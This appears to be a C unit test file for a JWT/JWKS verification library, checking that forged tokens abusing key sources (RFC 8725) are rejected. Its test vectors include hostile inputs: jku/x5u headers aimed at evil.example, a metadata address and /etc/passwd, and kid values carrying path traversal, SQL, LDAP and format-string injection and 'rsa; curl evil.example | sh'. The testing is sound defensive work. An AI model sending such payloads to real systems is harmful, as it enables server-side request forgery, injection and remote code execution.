/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Attacks on where the key comes from: the token's own header, a kid, a key
 * set that is not what it seems (RFC 8725 2.6, 2.10).  The letters are those
 * of the project's attack catalogue.
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include <openssl/x509.h>

#include "forge.h"

/* An honest signature of RS256 under a header that may be anything. */
static const char *
rs256(const char *header)
{
	return forge_token(
	    forge_key("RSA-2048"), "RS256", header, forge_claims(NULL));
}

/* The same by somebody whose key is not in the key set. */
static const char *
by_attacker(const char *header)
{
	return forge_token(
	    forge_key("RSA-2048-b"), "RS256", header, forge_claims(NULL));
}

static void
a5_key_embedded_in_the_header(void **state)
{
	struct po_id_token_policy policy = forge_policy();
	const char *jwk = forge_jwk(forge_key("RSA-2048-b"), "");
	const char *with_kid =
	    forge_text("{\"alg\":\"RS256\",\"kid\":\"rsa\",\"jwk\":%s}", jwk);
	const char *without_kid =
	    forge_text("{\"alg\":\"RS256\",\"jwk\":%s}", jwk);

	(void)state;
	assert_reason(PO_E_SIGNATURE, forge_login(by_attacker(with_kid)));
	assert_reason(PO_E_SIGNATURE,
	    forge_judge(by_attacker(without_kid),
		forge_jwks(forge_jwk(forge_key("RSA-2048"), ""), NULL),
		&policy));
	assert_reason(PO_OK, forge_login(rs256(with_kid)));
}

static void
a6_keys_at_an_address_in_the_header(void **state)
{
	static const char *const members[] = {
		"\"jku\":\"https://evil.example/jwks\"",
		"\"jku\":\"file:///etc/passwd\"",
		"\"x5u\":\"https://evil.example/cert.pem\"",
		"\"jku\":\"https://sso.example.com/redirect?to=evil\"",
		"\"x5u\":\"http://169.254.169.254/\"",
	};

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(members); i++) {
		const char *header = forge_text(
		    "{\"alg\":\"RS256\",\"kid\":\"rsa\",%s}", members[i]);
		const char *unknown_kid = forge_text(
		    "{\"alg\":\"RS256\",\"kid\":\"evil\",%s}", members[i]);

		assert_reason(PO_E_SIGNATURE, forge_login(by_attacker(header)));
		assert_reason(
		    PO_E_KEY_UNKNOWN, forge_login(by_attacker(unknown_kid)));
		assert_reason(PO_OK, forge_login(rs256(header)));
	}
}

/* A self-signed certificate of the attacker's key, in base64. */
static const char *
attacker_certificate(void)
{
	X509 *cert = X509_new();
	EVP_PKEY *key = forge_key("RSA-2048-b");
	uint8_t *der = NULL;
	int len;
	char *text;
	const char *kept;

	X509_gmtime_adj(X509_getm_notBefore(cert), 0);
	X509_gmtime_adj(X509_getm_notAfter(cert), 86400);
	assert_int_equal(X509_set_pubkey(cert, key), 1);
	assert_int_not_equal(X509_sign(cert, key, EVP_sha256()), 0);
	len = i2d_X509(cert, &der);
	assert_true(len > 0);
	text = malloc((size_t)len * 2);
	EVP_EncodeBlock((unsigned char *)text, der, len);
	kept = forge_text("%s", text);
	free(text);
	OPENSSL_free(der);
	X509_free(cert);
	return kept;
}

static void
a7_certificate_in_the_header_or_beside_another_key(void **state)
{
	struct po_id_token_policy policy = forge_policy();
	const char *x5c = attacker_certificate();
	const char *header = forge_text(
	    "{\"alg\":\"RS256\",\"kid\":\"rsa\",\"x5c\":[\"%s\"]}", x5c);
	const char *plain = "{\"alg\":\"RS256\",\"kid\":\"rsa\"}";
	const char *mixed =
	    forge_jwks(forge_jwk(forge_key("RSA-2048"),
			   forge_text("\"kid\":\"rsa\",\"x5c\":[\"%s\"]", x5c)),
		NULL);

	(void)state;
	assert_reason(PO_E_SIGNATURE, forge_login(by_attacker(header)));
	assert_reason(PO_OK, forge_login(rs256(header)));
	/* n and e are the key; the certificate is nobody's witness */
	assert_reason(
	    PO_E_SIGNATURE, forge_judge(by_attacker(plain), mixed, &policy));
	assert_reason(PO_OK, forge_judge(rs256(plain), mixed, &policy));
}

static void
a8_kid_that_would_be_a_path_or_a_query(void **state)
{
	static const char *const kids[] = {
		"../../../../dev/null",
		"/proc/self/environ",
		"rsa' OR '1'='1",
		"rsa; curl evil.example | sh",
		"*)(uid=*))(|(uid=*",
		"rs\\u0430", /* Cyrillic a */
		"RSA",
		"rsa ",
		" rsa",
		"rs",
		"",
		"%s%s%n",
	};

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(kids); i++)
		assert_reason(PO_E_KEY_UNKNOWN,
		    forge_login(rs256(forge_text(
			"{\"alg\":\"RS256\",\"kid\":\"%s\"}", kids[i]))));
	assert_reason(PO_OK,
	    forge_login(rs256("{\"alg\":\"RS256\",\"kid\":\"r\\u0073a\"}")));
}

static void
a8_kid_of_another_type_or_too_long_or_with_nul(void **state)
{
	static const char *const kids[] = { "1", "null", "true", "[\"rsa\"]",
		"{}", "1.5", "\"rsa\\u0000\"" };
	char longest[PO_JWK_KID_MAX + 1];
	struct po_id_token_policy policy = forge_policy();

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(kids); i++)
		assert_reason(PO_E_TOKEN_MALFORMED,
		    forge_login(rs256(forge_text(
			"{\"alg\":\"RS256\",\"kid\":%s}", kids[i]))));
	memset(longest, 'k', sizeof(longest) - 1);
	longest[sizeof(longest) - 1] = '\0';
	assert_reason(PO_E_TOKEN_MALFORMED,
	    forge_login(rs256(
		forge_text("{\"alg\":\"RS256\",\"kid\":\"%sk\"}", longest))));
	assert_reason(PO_OK,
	    forge_judge(rs256(forge_text(
			    "{\"alg\":\"RS256\",\"kid\":\"%s\"}", longest)),
		forge_jwks(forge_jwk(forge_key("RSA-2048"),
			       forge_text("\"kid\":\"%s\"", longest)),
		    NULL),
		&policy));
}

static void
a8_kid_missing_where_several_keys_fit(void **state)
{
	struct po_id_token_policy policy = forge_policy();
	const char *rsa_a = forge_jwk(forge_key("RSA-2048"), "\"kid\":\"a\"");
	const char *rsa_b = forge_jwk(forge_key("RSA-2048-b"), "\"kid\":\"b\"");
	const char *ec = forge_jwk(forge_key("P-256"), "\"kid\":\"c\"");
	const char *token = rs256("{\"alg\":\"RS256\"}");

	(void)state;
	assert_reason(PO_E_KEY_UNUSABLE,
	    forge_judge(token, forge_jwks(rsa_a, rsa_b, NULL), &policy));
	assert_reason(
	    PO_OK, forge_judge(token, forge_jwks(ec, rsa_a, NULL), &policy));
	assert_reason(PO_E_KEY_UNKNOWN,
	    forge_judge(token, forge_jwks(ec, NULL), &policy));
	assert_reason(
	    PO_E_KEY_UNKNOWN, forge_judge(token, forge_jwks(NULL), &policy));
}

static void
a8_kid_shared_by_several_keys(void **state)
{
	struct po_id_token_policy policy = forge_policy();
	const char *rsa_a = forge_jwk(forge_key("RSA-2048"), "\"kid\":\"k\"");
	const char *rsa_b = forge_jwk(forge_key("RSA-2048-b"), "\"kid\":\"k\"");
	const char *ec = forge_jwk(forge_key("P-256"), "\"kid\":\"k\"");
	const char *weak = forge_jwk(forge_key("RSA-1024"), "\"kid\":\"k\"");
	const char *header = "{\"alg\":\"RS256\",\"kid\":\"k\"}";

	(void)state;
	assert_reason(
	    PO_OK, forge_judge(rs256(header),
		       forge_jwks(weak, ec, rsa_b, rsa_a, NULL), &policy));
	assert_reason(
	    PO_E_SIGNATURE, forge_judge(by_attacker(header),
				forge_jwks(ec, rsa_a, NULL), &policy));
	assert_reason(PO_E_KEY_UNUSABLE,
	    forge_judge(rs256(header), forge_jwks(ec, NULL), &policy));
}

static void
a9_key_meant_for_another_use(void **state)
{
	static const struct {
		const char *members;
		enum po_status reason;
	} cases[] = {
		{ "\"use\":\"enc\"", PO_E_KEY_UNUSABLE },
		{ "\"use\":\"SIG\"", PO_E_KEY_UNUSABLE },
		{ "\"use\":null", PO_OK }, /* absent, says jwk.h */
		{ "\"use\":[\"sig\"]", PO_E_KEY_UNUSABLE },
		{ "\"key_ops\":[\"encrypt\",\"wrapKey\"]", PO_E_KEY_UNUSABLE },
		{ "\"key_ops\":[\"sign\"]", PO_E_KEY_UNUSABLE },
		{ "\"key_ops\":[]", PO_E_KEY_UNUSABLE },
		{ "\"key_ops\":\"verify\"", PO_E_KEY_UNUSABLE },
		{ "\"key_ops\":null", PO_OK },
		{ "\"alg\":\"RSA-OAEP\"", PO_E_KEY_UNUSABLE },
		{ "\"alg\":\"HS256\"", PO_E_KEY_UNUSABLE },
		{ "\"alg\":\"ES256\"", PO_E_KEY_UNUSABLE },
		{ "\"use\":\"sig\"", PO_OK },
		{ "\"key_ops\":[\"verify\"]", PO_OK },
		{ "\"key_ops\":[\"sign\",\"verify\"],\"use\":\"sig\"", PO_OK },
	};
	struct po_id_token_policy policy = forge_policy();
	const char *token = rs256("{\"alg\":\"RS256\",\"kid\":\"k\"}");

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(cases); i++)
		assert_reason(cases[i].reason,
		    forge_judge(token,
			forge_jwks(forge_jwk(forge_key("RSA-2048"),
				       forge_text("\"kid\":\"k\",%s",
					   cases[i].members)),
			    NULL),
			&policy));
}

/* Entra's key sets hold keys of other tenants, each with its issuer. */
static void
a9_key_of_another_tenant(void **state)
{
	static const struct {
		const char *issuer;
		enum po_status reason;
	} cases[] = {
		{ "\"https://sso.example.com/other/v2.0\"", PO_E_KEY_UNUSABLE },
		{ "\"https://sso.example.com/\"", PO_E_KEY_UNUSABLE },
		{ "\"https://sso.example.com/{tenantid}/v2.0\"",
		    PO_E_KEY_UNUSABLE },
		{ "\"{issuer}\"", PO_E_KEY_UNUSABLE },
		{ "\"\"", PO_E_KEY_UNUSABLE },
		{ "null", PO_OK }, /* as if it were not there */
		{ "\"" FORGE_ISSUER "\"", PO_OK },
	};
	struct po_id_token_policy policy = forge_policy();
	const char *token = rs256("{\"alg\":\"RS256\",\"kid\":\"k\"}");

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(cases); i++)
		assert_reason(cases[i].reason,
		    forge_judge(token,
			forge_jwks(forge_jwk(forge_key("RSA-2048"),
				       forge_text("\"kid\":\"k\",\"issuer\":%s",
					   cases[i].issuer)),
			    NULL),
			&policy));
}

static void
a11_key_set_that_is_not_one(void **state)
{
	static const char *const documents[] = {
		"",
		"<html><body>Sign in</body></html>",
		"null",
		"[]",
		"\"keys\"",
		"{}",
		"{\"keys\":null}",
		"{\"keys\":{}}",
		"{\"keys\":\"\"}",
		"{\"keys\":[],\"keys\":[]}",
		"{\"keys\":[{\"kty\":\"RSA\",\"kty\":\"EC\"}]}",
		"{\"keys\":[]} ,",
		"{\"keys\":[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]}",
	};

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(documents); i++) {
		struct po_jwks *set = NULL;

		assert_reason(
		    PO_E_DOCUMENT, po_jwks_parse(documents[i],
				       strlen(documents[i]), &set, NULL));
		assert_null(set);
	}
}

static void
a11_poisoned_keys_do_not_hide_good_ones(void **state)
{
	static const char *const poison[] = {
		"null",
		"1",
		"[]",
		"{}",
		"\"RSA\"",
		"{\"kty\":null}",
		"{\"kty\":\"AKP\",\"kid\":\"pq\",\"pub\":\"AAAA\"}",
		"{\"kty\":\"OKP\",\"crv\":\"X25519\",\"x\":\"AAAA\"}",
		"{\"kty\":\"RSA\",\"n\":null,\"e\":null}",
		"{\"kty\":\"RSA\",\"n\":12,\"e\":\"AQAB\"}",
		"{\"kty\":\"RSA\",\"n\":\"!\",\"e\":\"AQAB\"}",
		"{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":null,\"y\":null}",
		"{\"kty\":\"EC\",\"crv\":[],\"x\":\"AA\",\"y\":\"AA\"}",
		"{\"kty\":\"RSA\",\"kid\":null,\"n\":\"AQ\",\"e\":\"AQAB\"}",
		"{\"kty\":{\"kty\":{\"kty\":{}}}}",
	};
	struct po_id_token_policy policy = forge_policy();
	const char *list = "";

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(poison); i++)
		list = forge_text("%s%s,", list, poison[i]);
	list = forge_text("{\"keys\":[%s%s,null]}", list,
	    forge_jwk(forge_key("RSA-2048"), "\"kid\":\"rsa\""));
	assert_reason(
	    PO_OK, forge_judge(rs256("{\"alg\":\"RS256\",\"kid\":\"rsa\"}"),
		       list, &policy));
	assert_reason(PO_E_SIGNATURE,
	    forge_judge(by_attacker("{\"alg\":\"RS256\",\"kid\":\"rsa\"}"),
		list, &policy));
}

static void
a11_more_keys_than_any_provider_has(void **state)
{
	struct po_jwks *set = NULL;
	char text[4 * PO_JWKS_KEYS_MAX + 64];

	(void)state;
	for (unsigned extra = 0; extra < 2; extra++) {
		size_t len =
		    (size_t)snprintf(text, sizeof(text), "{\"keys\":[{}");

		for (unsigned i = 1; i < PO_JWKS_KEYS_MAX + extra; i++) {
			memcpy(text + len, ",{}", 3);
			len += 3;
		}
		memcpy(text + len, "]}", 2);
		assert_reason(extra == 0 ? PO_OK : PO_E_DOCUMENT,
		    po_jwks_parse(text, len + 2, &set, NULL));
		if (extra == 0)
			assert_int_equal(
			    po_jwks_skipped(set, NULL), PO_JWKS_KEYS_MAX);
		po_jwks_free(&set);
	}
}

static void
a12_symmetric_key_in_the_key_set(void **state)
{
	static const char secret[] = "everybody can read this document";
	struct po_id_token_policy policy = forge_policy();
	const char *jwks = forge_text(
	    "{\"keys\":[{\"kty\":\"oct\",\"kid\":\"oct\",\"k\":\"%s\"}]}",
	    forge_b64(secret, strlen(secret)));
	const char *input = forge_input(
	    "{\"alg\":\"HS256\",\"kid\":\"oct\"}", forge_claims(NULL));
	size_t len = 0;
	uint8_t *mac = forge_mac("SHA256", secret, strlen(secret), input, &len);

	(void)state;
	assert_reason(
	    PO_E_ALG, forge_judge(forge_join(input, mac, len), jwks, &policy));
	assert_reason(PO_E_KEY_UNUSABLE,
	    forge_judge(
		rs256("{\"alg\":\"RS256\",\"kid\":\"oct\"}"), jwks, &policy));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a5_key_embedded_in_the_header),
		cmocka_unit_test(a6_keys_at_an_address_in_the_header),
		cmocka_unit_test(
		    a7_certificate_in_the_header_or_beside_another_key),
		cmocka_unit_test(a8_kid_that_would_be_a_path_or_a_query),
		cmocka_unit_test(
		    a8_kid_of_another_type_or_too_long_or_with_nul),
		cmocka_unit_test(a8_kid_missing_where_several_keys_fit),
		cmocka_unit_test(a8_kid_shared_by_several_keys),
		cmocka_unit_test(a9_key_meant_for_another_use),
		cmocka_unit_test(a9_key_of_another_tenant),
		cmocka_unit_test(a11_key_set_that_is_not_one),
		cmocka_unit_test(a11_poisoned_keys_do_not_hide_good_ones),
		cmocka_unit_test(a11_more_keys_than_any_provider_has),
		cmocka_unit_test(a12_symmetric_key_in_the_key_set),
	};

	return cmocka_run_group_tests(tests, NULL, forge_free_all);
}
